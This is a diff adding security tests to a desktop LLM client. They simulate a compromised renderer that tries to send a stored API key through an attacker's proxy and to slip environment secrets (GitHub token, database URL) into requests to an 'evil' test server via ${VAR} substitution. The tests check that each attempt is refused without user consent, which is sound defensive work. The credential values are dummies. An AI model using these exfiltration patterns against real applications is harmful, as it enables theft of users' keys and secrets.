@@ -14,6 +14,8 @@ import { safeLinkUrl } from '../../src/shared/links.ts';
 import type { AppServices } from '../../src/main/services/app.ts';
 import { testAppServices } from '../helpers/app-services.ts';
 import type { ArgsIn, Channel, Result, ResultOf } from '../../src/shared/ipc.ts';
+import type { SecretUseRequest } from '../../src/main/services/consent.ts';
+import { hostsLookup } from '../helpers/core.ts';
 
 const KEY = 'sk-storedKeyNeverLeaves0123456789abcd';
 const ENV_SECRET = 'envSecretValue-7f3a9c1d';
@@ -207,5 +209,124 @@ describe('a compromised renderer', () => {
       expect(safeLinkUrl(url)).toBeNull();
       expect(await invoke(svc, 'link:open', url)).toMatchObject({ ok: false, error: { code: 'config_invalid' } });
     }
+  });
+});
+
+/** An app whose native confirmation answers `allow` and records what it asked. */
+function consenting(allow: boolean, env: Record<string, string> = {}): { svc: AppServices; dir: string; asked: SecretUseRequest[]; answer(a: boolean): void } {
+  const dir = mkdtempSync(join(tmpdir(), 'parley-consent-'));
+  dirs.push(dir);
+  const asked: SecretUseRequest[] = [];
+  let answer = allow;
+  const svc = testAppServices(dir, {
+    env,
+    // llm.corp.test is the user's plain-HTTP gateway (the good upstream, on loopback).
+    lookup: hostsLookup({ 'llm.corp.test': '127.0.0.1' }),
+    confirmSecretUse: async (r) => {
+      asked.push(r);
+      return answer;
+    },
+  });
+  apps.push(svc);
+  svc.attachWindow('w', (_e, p) => void emitted.push(p));
+  svc.hub.ready('w');
+  return { svc, dir, asked, answer: (a) => void (answer = a) };
+}
+const gateway = (): string => `http://llm.corp.test:${new URL(good.url).port}/v1`;
+const evilHop = (): string => `http://127.0.0.1:${new URL(evil.url).port}`;
+async function withGateway(svc: AppServices): Promise<string> {
+  const v = await ok(svc, 'providers:save', { name: 'Gateway', preset: 'custom', protocol: 'openai', baseUrl: gateway(), apiKey: KEY, models: ['test-model'], defaultModel: 'test-model' });
+  await ok(svc, 'settings:set', { network: { proxy: { mode: 'none' } } });
+  return v.providers[0]?.id ?? '';
+}
+
+describe('a compromised renderer and the routes of a stored key (issue 15)', () => {
+  it('cannot put a stored key of an http:// provider on its own proxy: the global proxy, the provider route and a model-list draft are refused unless the user confirms, and nothing reaches the proxy', async () => {
+    const { svc, asked } = consenting(false);
+    const id = await withGateway(svc);
+    const before = evil.requests.length;
+    const refused = [
+      await invoke(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: evilHop() } } }),
+      await invoke(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: `socks5h://127.0.0.1:${new URL(evil.url).port}` } } }),
+      await invoke(svc, 'providers:save', { id, name: 'Gateway', preset: 'custom', protocol: 'openai', baseUrl: gateway(), route: { mode: 'proxy', proxyUrl: evilHop() } }),
+      await invoke(svc, 'providers:models', { id, name: 'Gateway', preset: 'custom', protocol: 'openai', baseUrl: gateway(), route: { mode: 'proxy', proxyUrl: evilHop() } }),
+    ];
+    for (const r of refused) expect(r).toMatchObject({ ok: false, error: { code: 'config_invalid', key: 'secret_route_refused' } });
+    expect(asked.map((a) => a.kind === 'route' && a.provider)).toEqual(['Gateway', 'Gateway', 'Gateway', 'Gateway']);
+    expect(asked.map((a) => a.kind === 'route' && a.hop)).toEqual([evilHop(), `socks5h://127.0.0.1:${new URL(evil.url).port}`, evilHop(), evilHop()]);
+    // Nothing was saved or sent: the chat still goes straight to the gateway, with the key.
+    const conv = await ok(svc, 'conversations:create');
+    const sent = await ok(svc, 'chat:send', { conversationId: conv.id, text: 'hello' });
+    await new Promise((r) => setTimeout(r, 300));
+    expect(sent.requestId).toBeTruthy();
+    expect(evil.requests.length).toBe(before);
+    expect(good.requests.some((r) => r.headers.authorization === `Bearer ${KEY}`)).toBe(true);
+    expect(JSON.parse(readFileSync(svc.settings.path, 'utf8')).network.proxy.mode).toBe('none');
+  });
+
+  it('adding <-loopback> to the bypass list puts a provider on 127.0.0.1 behind the proxy: refused without the user', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'parley-consent-file-'));
+    dirs.push(dir);
+    // The user's own proxy, written by hand: loopback goes around it.
+    writeFileSync(join(dir, 'settings.json'), JSON.stringify({ version: 2, providers: [{ id: 'p', name: 'Local', protocol: 'openai', baseUrl: `${good.url}/v1`, apiKey: KEY, models: ['m'], defaultModel: 'm' }], defaults: { providerId: 'p', model: 'm' }, network: { proxy: { mode: 'manual', url: evilHop() } } }));
+    const asked: SecretUseRequest[] = [];
+    const svc = testAppServices(dir, { confirmSecretUse: async (r) => (asked.push(r), false) });
+    apps.push(svc);
+    const before = evil.requests.length;
+    const r = await invoke(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: evilHop(), bypass: '<-loopback>' } } });
+    expect(r).toMatchObject({ ok: false, error: { key: 'secret_route_refused' } });
+    expect(asked).toEqual([{ kind: 'route', provider: 'Local', origin: new URL(good.url).origin, hop: evilHop() }]);
+    await invoke(svc, 'providers:models', 'p');
+    expect(evil.requests.length).toBe(before);
+  });
+
+  it('with the user\'s yes the key goes through the proxy they named, and the answer is remembered; an https:// provider is never asked about (the proxy sees only the tunnel)', async () => {
+    const { svc, asked } = consenting(true);
+    const id = await withGateway(svc);
+    await ok(svc, 'providers:save', { name: 'Tls', preset: 'custom', protocol: 'openai', baseUrl: 'https://api.tls.test/v1', apiKey: 'sk-otherKey0123456789abcdefghijklmno' });
+    await ok(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: evilHop() } } });
+    expect(asked).toEqual([{ kind: 'route', provider: 'Gateway', origin: `http://llm.corp.test:${new URL(good.url).port}`, hop: evilHop() }]);
+    await ok(svc, 'providers:models', id);
+    expect(sawKey(evil, KEY)).toBe(true);
+    // Asked once: the same route again is not asked about.
+    await ok(svc, 'settings:set', { network: { proxy: { mode: 'none' } } });
+    await ok(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: evilHop() } } });
+    expect(asked).toHaveLength(1);
+  });
+});
+
+describe('a compromised renderer and environment variables (issue 15)', () => {
+  const GH = 'ghp_githubTokenFromBashrc0123456789abcdef';
+  const DB = 'postgres://app:dbPassw0rd-9f2c@db.internal:5432/app';
+  it('a ${VAR} from the window goes to an origin only with the user\'s yes, naming the variable and the origin; remembered; a preset\'s own variable to its own host needs none', async () => {
+    const { svc, asked, answer } = consenting(false, { GITHUB_TOKEN: GH, DATABASE_URL: DB, HF_TOKEN: GH });
+    const base = { name: 'X', preset: 'custom' as const, protocol: 'openai' as const };
+    const refused = [
+      await invoke(svc, 'providers:models', { ...base, baseUrl: `${evil.url}/v1`, apiKey: '${GITHUB_TOKEN}' }),
+      await invoke(svc, 'providers:models', { ...base, baseUrl: `${evil.url}/v1?u=\${DATABASE_URL}` }),
+      await invoke(svc, 'providers:save', { ...base, baseUrl: `${evil.url}/v1`, apiKey: '${HF_TOKEN}' }),
+    ];
+    for (const r of refused) {
+      expect(r).toMatchObject({ ok: false, error: { code: 'config_invalid', key: 'secret_var_refused' } });
+      expect(JSON.stringify(r)).not.toContain(GH);
+    }
+    expect(asked).toEqual([
+      { kind: 'variable', name: 'GITHUB_TOKEN', origin: evil.url.replace(/\/$/, '') },
+      { kind: 'variable', name: 'DATABASE_URL', origin: evil.url.replace(/\/$/, '') },
+      { kind: 'variable', name: 'HF_TOKEN', origin: evil.url.replace(/\/$/, '') },
+    ]);
+    expect(sawKey(evil, GH)).toBe(false);
+    expect(sawKey(evil, 'dbPassw0rd')).toBe(false);
+    expect((await ok(svc, 'settings:get')).providers).toHaveLength(0);
+    // The user says yes: sent, and not asked again.
+    answer(true);
+    await invoke(svc, 'providers:models', { ...base, baseUrl: `${evil.url}/v1`, apiKey: '${GITHUB_TOKEN}' });
+    expect(sawKey(evil, GH)).toBe(true);
+    await invoke(svc, 'providers:models', { ...base, baseUrl: `${evil.url}/v1`, apiKey: '${GITHUB_TOKEN}' });
+    expect(asked).toHaveLength(4);
+    // A preset's own variable to its own host: no question.
+    const own = await invoke(svc, 'providers:save', { ...base, preset: 'openai', baseUrl: 'https://api.openai.com/v1', apiKey: '${OPENAI_API_KEY}' });
+    expect(own.ok).toBe(true);
+    expect(asked).toHaveLength(4);
   });
 });
